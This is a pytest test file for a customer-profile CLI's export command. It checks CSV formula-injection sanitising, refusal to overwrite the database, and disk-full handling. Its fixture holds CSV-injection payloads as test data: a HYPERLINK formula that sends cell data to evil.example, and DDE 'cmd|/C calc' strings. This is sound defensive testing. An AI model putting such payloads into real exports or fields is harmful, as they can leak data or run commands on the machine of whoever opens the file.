"""``context-service export``: what a spreadsheet does with the CSV, and the CLI's
handling of its output file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from context_service.cli import main
from context_service.export import write_export
from context_service.store import Store
from tests.conftest import Ingest
from tests.payloads import hubspot_contact, shopify_customer, stripe_customer

# What Excel, LibreOffice and Google Sheets run as a formula when a cell starts with it
# (OWASP "CSV injection"): ``=``, ``+``, ``-``, ``@``, and a tab or carriage return before one.
_FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_people(ingest: Ingest) -> None:
    ingest(
        shopify_customer(1, "a@example.com", '=HYPERLINK("http://evil.example/?"&A1,"Open")', ""),
        stripe_customer("cus_2", "b@example.com", "+cmd|' /C calc'!A0", phone="+14155550134"),
        hubspot_contact(
            "3", "c@example.com", "-2+3", "Reyes", company="@SUM(1+1)*cmd|'/C calc'!A0"
        ),
        shopify_customer(4, "d@example.com", "Zoë", "O'Brien, Jr\nthe 2nd", phone="+442071838750"),
    )


@pytest.fixture
def one_person_db(store: Store, ingest: Ingest) -> Path:
    """A store file holding one profile, closed so the CLI can open it."""
    ingest(shopify_customer(1, "a@example.com", "Ann", "Berg"))
    path = Path(store.path)
    store.close()
    return path


def _csv_rows(store: Store) -> list[dict[str, str]]:
    out = io.StringIO()
    write_export(store.conn, out, "csv")
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_inert(
    store: Store, ingest: Ingest
) -> None:
    """A customer named ``=HYPERLINK(...)`` (or ``+cmd|...``, a company ``@SUM(...)``) must not
    become a live formula when the ops person opens the export in Excel; phone numbers, which
    start with ``+`` but are only digits, keep their value."""
    _hostile_people(ingest)
    rows = _csv_rows(store)
    assert len(rows) == 4
    for row in rows:
        for column, cell in row.items():
            if column == "phones":
                continue
            assert not cell.startswith(_FORMULA_LEADS), (column, cell)
    by_email = {row["emails"]: row for row in rows}
    # the text itself is kept, only made inert (a leading apostrophe, as OWASP advises)
    assert by_email["a@example.com"]["name"].endswith(
        '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    )
    assert by_email["c@example.com"]["company"] == "'@SUM(1+1)*cmd|'/C calc'!A0"
    assert by_email["b@example.com"]["phones"] == "+14155550134"
    assert by_email["d@example.com"]["phones"] == "+442071838750"
    # quoting of commas, quotes, newlines and non-ASCII still round-trips
    assert by_email["d@example.com"]["name"] == "Zoë O'Brien, Jr\nthe 2nd"


def test_exporting_onto_the_store_itself_is_refused_and_the_store_survives(
    one_person_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db = one_person_db
    monkeypatch.setenv("CONTEXT_SERVICE_DB", str(db))
    rc = main(["export", "--format", "csv", "--output", str(db)])
    after = Store(db)
    try:
        profiles = after.conn.execute("SELECT count(*) FROM profiles").fetchone()[0]
    finally:
        after.close()
    assert profiles == 1  # the typo cost nothing
    assert rc == 2


def test_a_full_disk_is_a_clear_error_not_a_traceback(
    one_person_db: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("/dev/full is Linux only")
    monkeypatch.setenv("CONTEXT_SERVICE_DB", str(one_person_db))
    try:
        rc = main(["export", "--format", "jsonl", "--output", "/dev/full"])
    except OSError as exc:  # what a user sees today: a traceback
        pytest.fail(f"export raised {exc!r}")
    assert rc == 2
    assert "cannot write /dev/full" in capsys.readouterr().err


def test_an_export_that_fails_part_way_leaves_the_previous_file_whole(
    one_person_db: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import errno

    import context_service.export as export

    monkeypatch.setenv("CONTEXT_SERVICE_DB", str(one_person_db))
    target = tmp_path / "out" / "all.jsonl"
    target.parent.mkdir()
    target.write_text("yesterday's export\n")

    def half_then_full(conn: object, out: io.StringIO, fmt: str) -> int:
        out.write('{"profile_id": "half')
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(export, "write_export", half_then_full)
    assert main(["export", "--format", "jsonl", "--output", str(target)]) == 2
    assert target.read_text() == "yesterday's export\n"
    assert sorted(p.name for p in target.parent.iterdir()) == ["all.jsonl"]  # no temporary left
